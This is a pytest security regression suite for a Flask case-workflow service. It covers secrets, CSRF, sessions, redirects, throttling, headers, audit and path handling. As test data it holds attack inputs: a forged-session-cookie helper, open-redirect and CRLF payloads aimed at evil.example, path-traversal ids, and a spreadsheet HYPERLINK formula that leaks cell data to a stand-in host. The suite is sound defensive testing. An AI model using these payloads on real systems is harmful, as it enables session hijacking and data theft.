"""Attacks on sessions, CSRF, redirects, logins and headers (issue 11), through the whole app.

Each test is an attack found against the service; it answers as the comment says.
"""

import csv
import io
import os
import re
import stat
import threading
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.sessions import SecureCookieSessionInterface
from flask.testing import FlaskClient
from sqlalchemy import select, text

from marshrut.api import secret
from marshrut.api.app import create_app
from marshrut.api.config import settings_from_env
from marshrut.engine import logins, users
from marshrut.engine.config import Settings
from marshrut.engine.models import AuditEvent, LoginFailure
from tests.api.conftest import API
from tests.conftest import BACKEND

CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')


def csrf_token(client: FlaskClient, path: str = "/login") -> str:
    """The CSRF token a page carries (its hidden field), as a browser would find it."""
    found = CSRF.search(client.get(path).get_data(as_text=True))
    assert found, f"no CSRF token on {path}"
    return found.group(1)


def log_in(client: FlaskClient, role: str, password: str | None = None, next_: str | None = None, expect: int = 302) -> Any:
    """Log in through the login form (with its CSRF token) as the fixture user of ``role``."""
    token = csrf_token(client)
    path = "/login" + (f"?next={next_}" if next_ is not None else "")
    response = client.post(path, data={"login": role, "password": password or f"pw-{role}", "csrf_token": token})
    assert response.status_code == expect, response.get_data(as_text=True)[:500]
    return response


def forged_cookie(secret_key: str, login: str) -> str:
    """A session cookie for ``login`` signed with ``secret_key``, as an attacker who knows the key makes it."""
    forger = Flask("forger")
    forger.secret_key = secret_key
    return SecureCookieSessionInterface().get_signing_serializer(forger).dumps({"login": login, "sid": "guessed"})


def audit_events(db, event: str) -> list[AuditEvent]:
    with db.unit_of_work() as uow:
        return list(uow.session.scalars(select(AuditEvent).where(AuditEvent.event == event).order_by(AuditEvent.id)))


# 1. No constant secret ---------------------------------------------------------------------------


def test_without_a_configured_secret_a_random_one_is_kept_under_var_with_mode_0600(tmp_path: Path, migrated: str):
    settings = replace(settings_from_env({"MARSHRUT_DATABASE_URL": migrated}), var_dir=tmp_path / "var")
    first = create_app(settings)
    key = first.config["SECRET_KEY"]
    assert key != "dev-only-secret" and len(key) >= 64
    path = tmp_path / "var" / "secret_key"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    second = create_app(settings)  # a restart, or another gunicorn worker
    assert second.config["SECRET_KEY"] == key
    for application in (first, second):
        application.extensions["marshrut"]["db"].dispose()


def test_workers_starting_together_agree_on_one_secret(tmp_path: Path):
    keys: list[str] = []
    threads = [threading.Thread(target=lambda: keys.append(secret.load_or_create(tmp_path))) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(keys) == 8 and len(set(keys)) == 1
    assert [p.name for p in tmp_path.iterdir()] == ["secret_key"]  # no temporary file left behind


def test_a_cookie_signed_with_the_old_constant_secret_is_refused_by_pages_and_api(tmp_path: Path, migrated: str, actors):
    settings = replace(settings_from_env({"MARSHRUT_DATABASE_URL": migrated}), var_dir=tmp_path / "var")
    application = create_app(settings)
    client = application.test_client()
    client.set_cookie("session", forged_cookie("dev-only-secret", "manager"))
    page = client.get("/dashboard")
    assert page.status_code == 302 and page.headers["Location"].startswith("/login")
    assert client.get(f"{API}/me").status_code == 401
    application.extensions["marshrut"]["db"].dispose()


def test_the_api_takes_bearer_tokens_only_not_the_pages_session_cookie(client, actors):
    log_in(client, "manager")
    assert client.get("/dashboard").status_code == 200  # the session works for the pages
    response = client.get(f"{API}/me")
    assert response.status_code == 401 and response.mimetype == "application/problem+json"
    assert client.get(f"{API}/me", headers={"Authorization": "Bearer token-manager"}).json["login"] == "manager"


# 2. CSRF ---------------------------------------------------------------------------------------------


def test_a_login_form_posted_without_its_csrf_token_is_refused_in_ukrainian(client, actors):
    response = client.post("/login", data={"login": "manager", "password": "pw-manager"})
    assert response.status_code == 400
    assert "Запит відхилено" in response.get_data(as_text=True)
    assert client.get("/dashboard").status_code == 302  # not logged in


def test_a_page_form_posted_without_the_sessions_token_changes_nothing(api, client, db):
    api.set_clock("2026-02-02T10:00:00+02:00")
    case = api.as_("programs_dept").start("address_aid", {**_application()})
    [task] = api.as_("programs_dept").tasks(instance_id=case["id"])
    log_in(client, "programs_dept")
    for sent in ({}, {"csrf_token": "forged"}, {"csrf_token": csrf_token(client.application.test_client())}):
        response = client.post(f"/tasks/{task['id']}", data={"action": "claim", **sent})
        assert response.status_code == 400, sent
        assert "Запит відхилено" in response.get_data(as_text=True)
    assert api.as_("programs_dept").get(f"/tasks/{task['id']}").json["assignee"] is None
    claimed = client.post(f"/tasks/{task['id']}", data={"action": "claim", "csrf_token": csrf_token(client, f"/tasks/{task['id']}")})
    assert claimed.status_code == 302
    assert api.as_("programs_dept").get(f"/tasks/{task['id']}").json["assignee"] == "programs_dept"


def test_the_modeler_validates_and_deploys_through_its_own_routes_with_the_csrf_header(api, client, db):
    log_in(client, "analyst")
    xml = client.get("/definitions/address_aid/xml").get_data()
    assert xml.startswith(b"<?xml")
    def upload(diagram: bytes) -> dict:
        return {"file": (io.BytesIO(diagram), "address_aid.bpmn"), "forms": "{}"}

    assert client.post("/definitions/validate-bundle", data=upload(xml), content_type="multipart/form-data").status_code == 400
    token = re.search(r'<meta name="csrf-token" content="([^"]+)"', client.get("/definitions/address_aid/modeler")
                      .get_data(as_text=True)).group(1)
    checked = client.post("/definitions/validate-bundle", data=upload(xml), content_type="multipart/form-data",
                          headers={"X-CSRFToken": token})
    assert checked.status_code == 200 and checked.json["key"] == "address_aid"
    renamed = xml.replace('name="Надання адресної соціальної допомоги"'.encode(), 'name="Адресна допомога, нова версія"'.encode(), 1)
    assert renamed != xml
    deployed = client.post("/definitions/deploy-bundle", data=upload(renamed), content_type="multipart/form-data",
                           headers={"X-CSRFToken": token})
    assert deployed.status_code == 201 and deployed.json["version"] == 2
    assert [e.data["version"] for e in audit_events(db, "definition_deployed") if e.actor == "analyst"] == [2]


# 3. Sessions: logout revokes, cookie flags, safe next ----------------------------------------------


def test_logout_revokes_the_session_so_a_copied_cookie_stops_working(client, actors):
    log_in(client, "manager")
    copied = client.get_cookie("session").value
    assert client.post("/logout", data={"csrf_token": csrf_token(client, "/dashboard")}).status_code == 302
    thief = client.application.test_client()
    thief.set_cookie("session", copied)
    response = thief.get("/dashboard")
    assert response.status_code == 302 and response.headers["Location"].startswith("/login")


def test_the_session_cookie_is_httponly_samesite_lax_and_secure_when_configured(app, db, actors, built_apps):
    client = app.test_client()
    cookie = log_in(client, "manager").headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie
    secure_settings = replace(app.extensions["marshrut"]["settings"], secure_cookies=True)
    secure_app = built_apps.setdefault(secure_settings, create_app(secure_settings))
    secure_client = secure_app.test_client()
    page = secure_client.get("/login", base_url="https://localhost").get_data(as_text=True)
    token = CSRF.search(page).group(1)
    response = secure_client.post("/login", data={"login": "manager", "password": "pw-manager", "csrf_token": token},
                                  base_url="https://localhost", headers={"Referer": "https://localhost/login"})
    assert response.status_code == 302
    assert "Secure" in response.headers["Set-Cookie"]


@pytest.mark.parametrize(("environ", "secure"), [
    ({}, False),  # the embedded default: var/marshrut.db served on 127.0.0.1 by ./scripts/run
    ({"MARSHRUT_DATABASE_URL": "postgresql://marshrut@db/marshrut"}, True),
    ({"MARSHRUT_DATABASE_URL": "sqlite:////srv/marshrut.db"}, True),
    ({"MARSHRUT_DATABASE_URL": "postgresql://marshrut@db/marshrut", "MARSHRUT_SECURE_COOKIES": "0"}, False),
    ({"MARSHRUT_SECURE_COOKIES": "1"}, True),
])
def test_secure_cookies_are_on_by_default_outside_the_embedded_default(environ: dict[str, str], secure: bool):
    assert settings_from_env(environ).secure_cookies is secure


@pytest.mark.parametrize("target", [
    "/%09/evil.example/", "//evil.example/", "/\\evil.example/", "\\\\evil.example", "https://evil.example/",
    "/%0d%0aSet-Cookie:x=1", "javascript:alert(1)", "evil.example",
])
def test_after_login_only_a_path_on_this_site_is_followed(client, actors, target: str):
    response = log_in(client, "manager", next_=target)
    assert response.headers["Location"] == "/"


def test_after_login_a_path_on_this_site_is_followed(client, actors):
    assert log_in(client, "manager", next_="/cases?page=2").headers["Location"] == "/cases?page=2"


# 4. Login throttling ------------------------------------------------------------------------------


def test_repeated_wrong_passwords_for_one_login_are_answered_429_with_retry_after(client, db, actors):
    for _ in range(logins.MAX_FAILURES_PER_LOGIN):
        log_in(client, "manager", password="guess", expect=401)
    response = log_in(client, "manager", expect=429)  # even the right password, while throttled
    assert 1 <= int(response.headers["Retry-After"]) <= logins.FAILURE_WINDOW.total_seconds() + 1
    assert "Забагато невдалих спроб" in response.get_data(as_text=True)
    log_in(client, "programs_dept")  # another login from the same address still gets in


def test_repeated_failures_from_one_address_are_throttled_whatever_the_login(client, db, actors):
    for number in range(logins.MAX_FAILURES_PER_ADDRESS):
        log_in(client, f"nobody{number}", password="guess", expect=401)
    assert int(log_in(client, "director", expect=429).headers["Retry-After"]) >= 1


def test_an_unknown_login_costs_a_password_check_as_a_known_one_does(db, actors, monkeypatch):
    checked: list[str] = []
    original = users.check_password_hash
    monkeypatch.setattr(users, "check_password_hash", lambda hashed, pw: checked.append(pw) or original(hashed, pw))
    with db.unit_of_work() as uow:
        assert users.by_password(uow, "no-such-login", "guess") is None
        assert users.by_password(uow, "manager", "guess") is None
    assert checked == ["guess", "guess"]


def test_failed_logins_are_audited_without_the_password(client, db, actors):
    log_in(client, "manager", password="s3cret-guess", expect=401)
    [event] = audit_events(db, "login_failed")
    assert (event.actor, event.data["reason"]) == ("manager", "wrong_password")
    assert "s3cret-guess" not in repr(event.data)
    with db.unit_of_work() as uow:
        assert uow.session.scalar(select(LoginFailure.login)) == "manager"


# 5. Security headers ----------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/login", f"{API}/health", f"{API}/me", f"{API}/no-such-thing", f"{API}/docs",
                                  f"{API}/openapi.json", "/no-such-page"])
def test_every_answer_carries_the_security_headers(client, path: str):
    headers = client.get(path).headers
    csp = headers["Content-Security-Policy"]
    assert "frame-ancestors 'none'" in csp
    script_src = next(d for d in csp.split(";") if d.strip().startswith("script-src"))
    assert "'unsafe-inline'" not in script_src and "'unsafe-eval'" not in script_src
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] in ("same-origin", "no-referrer")
    assert headers["Cache-Control"] == "no-store"


def test_pages_and_api_answers_with_personal_data_are_not_cached_but_static_files_may_be(api, client):
    api.set_clock("2026-02-02T10:00:00+02:00")
    case = api.as_("programs_dept").start("address_aid", _application())
    assert api.as_("manager").get(f"/process-instances/{case['id']}").headers["Cache-Control"] == "no-store"
    log_in(client, "manager")
    assert client.get(f"/cases/{case['id']}").headers["Cache-Control"] == "no-store"
    static = client.get("/ui/static/marshrut.css")
    assert "no-store" not in static.headers.get("Cache-Control", "")
    static.close()


@pytest.mark.parametrize("template", sorted(p.name for p in (Path(__file__).parents[2] / "ui" / "templates").glob("*.html")))
def test_no_template_has_an_inline_script_or_event_handler(template: str):
    source = (Path(__file__).parents[2] / "ui" / "templates" / template).read_text(encoding="utf-8")
    for tag in re.findall(r"<script\b[^>]*>", source):
        assert "src=" in tag or 'type="application/json"' in tag, f"{template}: inline {tag}"
    assert not re.search(r"\son[a-z]+\s*=", source), f"{template}: an inline event handler"
    assert "javascript:" not in source


# 6. Audit ---------------------------------------------------------------------------------------


def test_reading_a_completed_steps_data_is_audited_and_lists_carry_no_step_data(api, db):
    api.set_clock("2026-02-02T10:00:00+02:00")
    case = api.as_("programs_dept").start("address_aid", _application())
    [task] = api.as_("programs_dept").tasks(instance_id=case["id"])
    api.as_("programs_dept").complete(task["id"], {"package_complete": True, "missing_documents": []})
    listed = api.as_("programs_dept").tasks(state="completed")
    assert [t["id"] for t in listed] == [task["id"]] and listed[0]["data"] is None
    assert api.as_("manager").get(f"/tasks/{task['id']}").json["data"]["package_complete"] is True
    [event] = audit_events(db, "task_viewed")
    assert (event.actor, event.instance_id, event.task_id) == ("manager", case["id"], task["id"])


def test_an_admin_administers_but_reads_no_cases_personal_data(api, db):
    api.set_clock("2026-02-02T10:00:00+02:00")
    case = api.as_("programs_dept").start("address_aid", _application())
    [task] = api.as_("programs_dept").tasks(instance_id=case["id"])
    admin = api.as_("admin")
    admin.instance(case["id"], expect=403)
    admin.get(f"/process-instances/{case['id']}/history", expect=403)
    admin.get(f"/tasks/{task['id']}", expect=403)
    assert admin.get("/process-instances").json["total"] == 0
    cancelled = admin.post(f"/process-instances/{case['id']}/cancel", json={"reason": "Дубль"}).json
    assert cancelled["status"] == "cancelled" and cancelled["data"] is None


def test_clock_changes_are_audit_events(api, db):
    api.set_clock("2026-02-02T10:00:00+02:00")
    api.set_clock("2026-03-01T09:00:00+02:00")
    events = audit_events(db, "clock_set")
    assert [(e.actor, e.data["now"]) for e in events] == [
        ("admin", "2026-02-02T10:00:00+02:00"), ("admin", "2026-03-01T09:00:00+02:00"),
    ]
    assert events[1].data["previous"] == "2026-02-02T10:00:00+02:00"


@pytest.mark.skipif(BACKEND != "postgresql", reason="the append-only trigger is PostgreSQL's")
def test_the_audit_table_refuses_update_and_delete_through_the_services_connection(api, db):
    api.set_clock("2026-02-02T10:00:00+02:00")
    for statement in ("UPDATE audit_events SET actor = 'nobody'", "DELETE FROM audit_events"):
        with pytest.raises(Exception, match="append-only"):
            with db.engine.begin() as connection:
                connection.execute(text(statement))
    assert [e.actor for e in audit_events(db, "clock_set")] == ["admin"]


# 7. Ids as paths ---------------------------------------------------------------------------------

MINI = (Path(__file__).parents[1] / "data" / "minimal" / "mini.bpmn").read_text(encoding="utf-8")


@pytest.mark.parametrize("process_id", ["{outside}", "..", "../../etc", "a/b"])
def test_a_process_id_that_is_a_path_reads_nothing_outside_forms(api, tmp_path: Path, process_id: str):
    outside = tmp_path / "private"
    outside.mkdir()
    (outside / "salaries_2026.json").write_text("{not json", encoding="utf-8")
    wanted = process_id.format(outside=outside)
    xml = MINI.replace('id="mini"', f'id="{wanted}"').replace('processRef="mini"', f'processRef="{wanted}"')
    for path in ("/process-definitions/validate", "/process-definitions"):
        body = api.as_("analyst").post(path, 422, data=xml.encode(), content_type="application/xml").get_data(as_text=True)
        assert "salaries_2026" not in body
        assert "неприпустимий" in body


@pytest.mark.parametrize("name", ["../start.json", "/etc/x.json", "..json", "a b.json"])
def test_a_file_sent_with_a_diagram_under_a_path_name_is_refused(api, name: str):
    files = {"file": [(io_bytes(MINI.encode()), "mini.bpmn"), (io_bytes(b"{}"), name)]}
    response = api.as_("analyst").post("/process-definitions/validate", 422, data=files)
    assert "Неприпустима назва файлу" in response.get_data(as_text=True)


def io_bytes(data: bytes) -> Any:
    return io.BytesIO(data)


def _application() -> dict[str, Any]:
    from tests.walks import APPLICATION

    return dict(APPLICATION)


def test_settings_default_no_longer_holds_a_known_secret():
    assert Settings().secret_key is None
    assert "dev-only-secret" not in (Path(__file__).parents[2] / "marshrut" / "engine" / "config.py").read_text(encoding="utf-8")
    assert os.environ.get("MARSHRUT_SECRET_KEY") != "dev-only-secret"


def test_step_names_that_look_like_formulas_reach_the_managers_csv_as_text(api, client, db):
    api.set_clock("2026-02-02T10:00:00+02:00")
    case = api.as_("programs_dept").start("address_aid", _application())
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Відкрити")'
    with db.engine.begin() as connection:
        connection.execute(text("UPDATE tasks SET name = :name WHERE instance_id = :id"), {"name": formula, "id": case["id"]})
    api.set_clock("2026-04-01T10:00:00+03:00")  # the step long overdue: it is on the dashboard
    log_in(client, "manager")
    body = client.get("/dashboard.csv").get_data().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body), delimiter=";") for cell in row]
    hits = [cell for cell in cells if "HYPERLINK" in cell]
    assert hits and all(cell.startswith("'") for cell in hits), hits
    assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in cells)


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+380671234567", "'+380671234567"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-1,5", "-1,5"), ("Прийом документів", "Прийом документів"), (3, 3),
])
def test_csv_cells_that_start_like_a_formula_are_escaped(value: Any, written: Any):
    from marshrut.ui.dashboard import csv_cell

    assert csv_cell(value) == written


def test_behind_a_trusted_proxy_failures_are_counted_by_the_forwarded_client_address(app, db, actors, built_apps):
    proxied = replace(app.extensions["marshrut"]["settings"], trusted_proxies=1)
    client = built_apps.setdefault(proxied, create_app(proxied)).test_client()
    token = csrf_token(client)
    for number in range(logins.MAX_FAILURES_PER_ADDRESS):
        client.post("/login", data={"login": f"nobody{number}", "password": "guess", "csrf_token": token},
                    headers={"X-Forwarded-For": "203.0.113.7"})
    with db.unit_of_work() as uow:
        assert set(uow.session.scalars(select(LoginFailure.address))) == {"203.0.113.7"}
    other = client.post("/login", data={"login": "manager", "password": "pw-manager", "csrf_token": token},
                        headers={"X-Forwarded-For": "198.51.100.1"})
    assert other.status_code == 302  # another client behind the same proxy is not throttled
